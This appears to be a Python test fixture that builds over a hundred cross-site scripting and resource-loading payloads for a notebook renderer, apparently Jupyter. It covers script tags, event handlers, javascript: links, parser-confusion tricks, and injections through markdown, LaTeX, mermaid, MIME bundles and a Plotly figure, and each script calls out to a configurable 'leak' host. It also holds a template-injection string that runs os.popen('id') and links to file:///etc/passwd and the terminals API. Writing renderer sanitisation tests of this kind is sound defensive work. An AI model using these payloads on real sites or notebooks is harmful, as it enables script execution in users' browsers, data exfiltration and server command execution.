# ruff: noqa: E501 - a payload is a line
"""What runs, loads or leaves in a browser that shows it as it is: texts, and what programs show."""

import base64

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><script>{js}</script></svg>"


def script(leak: str) -> str:
    """Leaves a mark, asks for a dialog, and calls home."""
    return f"top.pwned=1;console.log(`pwned`);alert(1);fetch(`{leak}/script`)"


def encoded(text: str, kind: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


def texts(leak: str) -> list[str]:
    """Written answers."""
    js = script(leak)
    named = "".join(f"&#{ord(letter)};" for letter in "javascript:")
    html = encoded(f"<script>{js}</script>", "text/html")
    picture = encoded(SVG.format(js=js), "image/svg+xml")
    return [
        f"<script>{js}</script>",
        f"<ScRiPt\n>{js}</sCrIpT\t>",
        f"<script src='{leak}/a.js'></script>",
        f"<script src={encoded(js, 'text/javascript')}></script>",
        f"<script type=module>import '{leak}/m.mjs'</script>",
        f"<img src=x onerror='{js}'>",
        f"<IMG/SRC=x/onerror='{js}'//>",
        f"<img src='{leak}/img'>",
        f"<img srcset='{leak}/set 1x'>",
        f"<picture><source srcset='{leak}/source'><img></picture>",
        f"<svg onload='{js}'>",
        f"<svg><script>{js}</script></svg>",
        f"<svg><animate onbegin='{js}' attributeName=x dur=1s></svg>",
        f"<svg><a><animate attributeName=href values='javascript:{js}'/><text y=20>x</text></a></svg>",
        f"<svg><use href='{picture}#x'/></svg>",
        f"<svg><image href='{leak}/svg'/></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
        f"<math><maction actiontype='statusline#http://x' href='javascript:{js}'>x</maction></math>",
        f"<math href='javascript:{js}'><mi>x</mi></math>",
        f"<a href='javascript:{js}'>a</a>",
        f"<a href='{named}{js}'>entities</a>",
        f"<a href=' java\tscript\n:{js}'>white</a>",
        f"<a href='\x01javascript:{js}'>control</a>",
        f"<a href='vbscript:msgbox'>v</a> <a href='{html}'>data</a> <a href='blob:x'>b</a>",
        f"<a href='{leak}/ping' ping='{leak}/ping'>ping</a>",
        f"[markdown](javascript:{js.replace('(', '%28').replace(')', '%29')})",
        f"[entity](java&#115;cript:alert`1`)\n\n[tab](java&Tab;script&colon;{js[:11]})",
        "[angle](<javascript:top.pwned=1>) <javascript:top.pwned=1>",
        "[named][x] [x]\n\n[x]: javascript:top.pwned=1\n",
        "[upper](JaVaScRiPt:top.pwned=1) [data](data:text/html,<script>top.pwned=1</script>)",
        "[server](/lab/api/terminals) [up](../../../logout) [file](file:///etc/passwd)",
        f"![remote]({leak}/markdown.png)",
        f"![named][i]\n\n[i]: {leak}/named.png\n",
        f'![quoted](x" onerror="{js.replace("(", "&lpar;").replace(")", "&rpar;")})',
        f'![title](x "t&quot; onerror=&quot;{js}")',
        f"![svg]({picture})",
        "![gone](attachment:gone.png) ![drawn](attachment:drawn.svg)",
        f"<iframe src='javascript:{js}'></iframe>",
        f"<iframe srcdoc='<script>{js}</script>'></iframe>",
        f"<iframe src='{leak}/frame'></iframe><frameset><frame src='{leak}/f'></frameset>",
        f"<object data='{html}'></object><embed src='{html}'><applet code=x>",
        f"<object data='javascript:{js}'></object><embed src='{leak}/embed'>",
        f"<form action='javascript:{js}'><input type=submit id=go></form><script>go.click()</script>",
        f"<form id=f action='{leak}/form'></form><button form=f formaction='javascript:{js}'>b</button>",
        f"<input autofocus onfocus='{js}'><select autofocus onfocus='{js}'><textarea autofocus onfocus='{js}'>",
        f"<isindex type=image src=1 onerror='{js}'><keygen autofocus onfocus='{js}'>",
        f"<meta http-equiv=refresh content='0;url={leak}/refresh'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{js}'>",
        f"<base href='{leak}/base/'><link rel=stylesheet href='{leak}/s.css'>",
        f"<link rel=preload as=image href='{leak}/preload'><link rel=dns-prefetch href='{leak}'>",
        f"<style>@import '{leak}/i.css'; body {{background: url({leak}/bg)}}</style>",
        f"<p style='background: url({leak}/style)'>s</p><p style='position:fixed;inset:0'>over</p>",
        f"<table background='{leak}/table'><td background='{leak}/cell'>x</table>",
        f"<body onload='{js}' background='{leak}/body'><html onclick='{js}'>",
        f"<video src=x onerror='{js}'><source onerror='{js}'></video><audio src=x onerror='{js}'>",
        f"<video poster='{leak}/poster'></video><track src='{leak}/track'>",
        f"<details open ontoggle='{js}'>d</details><marquee onstart='{js}'>m</marquee>",
        f"<div onmouseover='{js}' onclick='{js}' tabindex=1 onfocus='{js}'>hover</div>",
        f"<p onpointerenter='{js}' onanimationstart='{js}' style='animation: x'>p</p>",
        f"<template><script>{js}</script></template><slot onslotchange='{js}'></slot>",
        f"<dialog open onclose='{js}'>d</dialog><x oncontentvisibilityautostatechange='{js}' style='content-visibility:auto'>",
        f"<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
        f"<svg></p><style><a id='</style><img src=1 onerror={js}>'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{js}'>",
        f"<title><a title='</title><img src=x onerror={js}>'></a></title>",
        f"<textarea><a title='</textarea><img src=x onerror={js}>'></textarea>",
        f"<xmp><p title='</xmp><svg/onload={js}>'></xmp><plaintext>",
        f"<!--><img src=x onerror='{js}'>-->",
        f"<!-- --!><img src=x onerror='{js}'> -->",
        f"<!--[if true]><script>{js}</script><![endif]-->",
        f"<![CDATA[><img src=x onerror='{js}'>]]>",
        f"<?xml-stylesheet href='{leak}/x'?><?php <img src=x onerror='{js}'> ?>",
        f"<img src=`x`onerror='{js}'>",
        f'<img """><script>{js}</script>">',
        f"<<script>{js}//<</script>",
        f"<a\n\nhref='javascript:{js}'>broken over a blank line</a>",
        f"| a | b |\n|---|---|\n| <img src=x onerror='{js}'> | <script>{js}</script> |",
        f"> <div>\n> <script>{js}</script>\n\n- <img src=x onerror='{js}'>\n    - <svg onload='{js}'>",
        f"# <img src=x onerror='{js}'>\n\n## [x](javascript:top.pwned=1) {{#id onclick={js}}}",
        f'```mermaid\ngraph TD; A["<img src=x onerror=\'{js}\'>"]; click A "javascript:{js}"\n```',
        f"~~~ mermaid-x\n</pre><script>{js}</script>\n~~~",
        f"> ```mermaid\n> <script>{js}</script>\n> ```",
        f"```html\n<script>{js}</script>\n```\n\n    <script>{js}</script>",
        f'```java" onmouseover="{js}\n<script>{js}</script>\n```',
        f"`</code><script>{js}</script>` ``` `` <script>{js}</script>",
        f"$\\href{{javascript:{js}}}{{x}} \\class{{pwned}}{{y}} \\unicode{{x3c}}script\\unicode{{x3e}}$",
        f"$$\\style{{background:url({leak}/tex)}}{{x}} \\cssId{{pwned}}{{y}} </script><script>{js}</script>$$",
        f"$</span><img src=x onerror='{js}'>$ \\(<svg onload='{js}'>\\)",
        f"$\\text{{<img src=x onerror='{js}'>}} \\mbox{{</mtext></math><script>{js}</script>}}$",
        f"$\\text{{<svg><style><img title='</style><img src=x onerror={js}>'></style></svg>}}$",
        f"$\\text{{<style><!--</style><a title='--><img src=x onerror={js}>'>}} \\mathrm{{<mglyph>}}$",
        f"$$\\includegraphics{{{leak}/tex.png}} \\url{{javascript:{js}}} \\color{{red;x:url({leak})}}{{x}}$$",
        f"\\begin{{align}}</p><script>{js}</script>\\end{{align}}",
        f"\\begin{{a<script>}}{js}\\end{{a<script>}} \\\\[<img src=x onerror='{js}'>\\\\]",
        f"{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}} {{% raw %}}<script>{js}</script>",
        f"&lt;script&gt;{js}&lt;/script&gt; &#60;script&#62;{js}&#60;/script&#62;",
        f"\\<script>{js}\\</script>\n\n\\\\<script>{js}</script>",
        f"[^1]\n\n[^1]: <script>{js}</script>",
        f"</div></div></main></body><script>{js}</script>",
        f"<div id=notebook-container><div class=nbgrader_cell><a class=save-icon name=top data-link='javascript:{js}'>x</a></div></div>",
        f"+ADw-script+AD4-{js}+ADw-/script+AD4-",
        f"\ufeff<script>{js}</script>\x00<scr\x00ipt>{js}</script>\u2028<script>{js}</script>",
        "[" * 3000 + f"<script>{js}</script>",
        "> " * 1200 + f"<script>{js}</script>",
        "~" * 5 + f"\n</code></pre><script>{js}</script>\n" + "~" * 9 + f"\n<script>{js}</script>",
    ]


def bundles(leak: str) -> list[dict]:
    """What a program may say that it shows."""
    js = script(leak)
    html = f"<script>{js}</script><img src=x onerror='{js}'><p style='background:url({leak}/css)'>"
    table = (
        f"<table onclick='{js}'><tr><td style='color:red' onmouseover='{js}'>1</td></tr></table>"
    )
    link = f"<a href='javascript:{js}'>click</a>"
    return [
        {"text/html": html},
        {"text/html": table + html},
        {"text/html": f"<table><caption>{html}</caption><tr><td>{link}</td></tr></table>"},
        {"text/html": f"<table><svg><style><img title='</style>{html}'></svg></table>"},
        {"image/svg+xml": SVG.format(js=js)},
        {"application/javascript": js},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + html}},
        {"text/latex": f"$\\href{{javascript:{js}}}{{x}}$ {html}"},
        {"text/markdown": f"{html}\n\n[x](javascript:{js})\n\n```mermaid\n{html}\n```"},
        {"text/vnd.mermaid": html},
        {"image/png": f'" onerror="{js}'},
        {"image/jpeg": base64.b64encode(html.encode()).decode()},
        {"application/pdf": "JVBERg==", "text/plain": html},
        {"text/plain": f"\x1b]8;;javascript:{js}\x1b\\link\x1b]8;;\x1b\\ \x1b[31m{html}"},
    ]


def figure(leak: str) -> dict:
    """A figure whose words are HTML, with pictures from elsewhere."""
    js = script(leak)
    html = f"<a href='javascript:{js}'>t</a><img src=x onerror='{js}'><script>{js}</script>"
    return {
        "data": [
            {
                "type": "scatter",
                "x": [1, 2],
                "y": [1, 2],
                "name": html,
                "text": [html, html],
                "hovertemplate": html,
                "mode": "text+markers",
            }
        ],
        "layout": {
            "title": {"text": html},
            "xaxis": {"title": {"text": f"$\\href{{javascript:{js}}}{{x}}$"}},
            "annotations": [{"text": html, "x": 1, "y": 1}],
            "images": [
                {"source": f"{leak}/plotly.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1},
                {"source": "file:///etc/hostname", "x": 0, "y": 1, "sizex": 1, "sizey": 1},
            ],
        },
    }
